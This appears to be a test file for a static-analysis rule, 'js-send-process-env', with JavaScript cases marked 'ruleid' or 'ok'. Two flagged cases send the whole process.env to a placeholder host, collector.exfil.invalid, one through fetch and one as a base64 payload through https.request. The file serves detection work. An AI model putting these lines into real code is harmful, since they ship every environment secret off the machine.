const https = require("https");

// ruleid: js-send-process-env
fetch("http://collector.exfil.invalid/c", { method: "POST", body: JSON.stringify(process.env) });

const payload = Buffer.from(JSON.stringify({ env: process.env })).toString("base64");
const req = https.request({ hostname: "collector.exfil.invalid", method: "POST" });
// ruleid: js-send-process-env
req.write(payload);
req.end();

// ok: js-send-process-env
fetch("http://127.0.0.1:8080/api", { headers: { Authorization: `Bearer ${process.env.API_TOKEN}` } });
